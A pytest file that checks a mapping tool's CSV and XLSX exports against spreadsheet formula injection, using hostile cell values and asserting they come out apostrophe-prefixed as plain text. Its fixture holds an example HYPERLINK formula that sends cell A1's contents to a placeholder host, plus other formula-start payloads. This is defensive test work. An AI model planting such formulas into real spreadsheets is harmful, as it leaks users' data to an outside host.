"""Formula injection (OWASP "CSV injection", issue 10 item 7) in the real exports: names from
the sample's files replaced by hostile ones, written to CSV and XLSX and read back raw."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from accessmap.core.pipeline import run_analysis
from accessmap.core.safe_text import FORMULA_STARTS
from accessmap.core.sample import load_sample
from accessmap.render.export import export_csv, export_table_csv, export_xlsx

#: the issue's HYPERLINK example, then one cell per formula start (TAB and CR included)
HOSTILE = ['=HYPERLINK("http://x/?d="&A1,"click")'] + [c + "2+3" for c in FORMULA_STARTS]


@pytest.fixture(scope="module")
def hostile_result():
    layers, settings = load_sample()
    sectors = layers.sectors.copy()
    sectors.loc[: len(HOSTILE) - 1, "name"] = HOSTILE
    sectors['=HYPERLINK("http://x")'] = "header"  # a hostile column name from the file
    centres = layers.centres.copy()
    centres.loc[0, "centre_id"] = HOSTILE[0]  # reaches nearest_centre_id
    return run_analysis(layers.replace(sectors=sectors, centres=centres), settings)


def _rows(path: Path, sep: str, encoding: str) -> list[list[str]]:
    with path.open(newline="", encoding=encoding) as f:
        return list(csv.reader(f, delimiter=sep))


def _no_formula_starts(cells) -> None:
    bad = [c for c in cells if isinstance(c, str) and c.startswith(("=", "+", "@", "\t", "\r"))]
    assert bad == []


@pytest.mark.parametrize(
    ("sep", "decimal", "encoding"), [(";", ",", "utf-8-sig"), (",", ".", "utf-8")]
)
def test_csv_text_neutralised_numbers_kept(hostile_result, tmp_path, sep, decimal, encoding):
    path = export_csv(
        hostile_result, tmp_path / "s.csv", sep=sep, decimal=decimal, encoding=encoding
    )
    rows = _rows(path, sep, encoding)
    header, body = rows[0], rows[1:]
    name = header.index("name")
    assert [r[name] for r in body[: len(HOSTILE)]] == ["'" + h for h in HOSTILE]
    assert '\'=HYPERLINK("http://x")' in header
    nearest = header.index("nearest_centre_id")
    assert "'" + HOSTILE[0] in {r[nearest] for r in body}
    cells = [c for r in rows for c in r]
    _no_formula_starts(cells)
    assert not [c for c in cells if c.startswith("-") and not _is_number(c, decimal)]
    # numbers stay numbers (no apostrophe before a number)
    dist = header.index("dist_nearest_m")
    assert all(_is_number(r[dist], decimal) or r[dist] == "" for r in body)


def _is_number(text: str, decimal: str) -> bool:
    try:
        float(text.replace(decimal, "."))
    except ValueError:
        return False
    return True


def test_table_csv_negative_numbers_are_numbers(tmp_path):
    df = pd.DataFrame({"label": ["-2+3", "ok"], "delta": [-5.5, 1.0]})
    path = export_table_csv(df, tmp_path / "t.csv", sep=",", decimal=".", encoding="utf-8")
    assert path.read_bytes() == b"label,delta\r\n'-2+3,-5.5\r\nok,1.0\r\n"


def test_xlsx_has_no_formula_and_text_is_text(hostile_result, tmp_path):
    path = export_xlsx(hostile_result, tmp_path / "r.xlsx")
    wb = load_workbook(path)  # not read-only: data_type as stored
    ws = wb["sectors"]
    assert all(c.data_type != "f" for row in wb["sectors"].iter_rows() for c in row)
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            assert all(c.data_type != "f" for c in row), sheet.title
            _no_formula_starts([c.value for c in row])
    header = [c.value for c in ws[1]]
    col = header.index("name") + 1
    got = [ws.cell(row=r, column=col) for r in range(2, 2 + len(HOSTILE))]
    # XML reads a raw CR back as LF; the text is stored as text either way
    assert [c.value for c in got] == ["'" + h.replace("\r", "\n") for h in HOSTILE]
    assert all(c.data_type == "s" for c in got)
    assert '\'=HYPERLINK("http://x")' in header
    # numbers, negative ones included, are numbers
    pop = ws.cell(row=2, column=header.index("population") + 1)
    assert pop.data_type == "n"
    ci = next(r for r in wb["summary"].iter_rows(min_row=2) if r[0].value == "concentration_index")
    assert ci[1].data_type == "n" and isinstance(ci[1].value, float)
